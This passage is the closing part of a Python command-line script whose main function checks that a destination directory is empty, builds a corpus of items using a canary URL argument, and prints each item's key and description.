    if args.dest.exists() and any(args.dest.iterdir()):
        parser.error(f"{args.dest} is not empty")
    for key, item in build_corpus(args.dest, args.canary_url).items():
        print(f"{key:22} {item.what}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
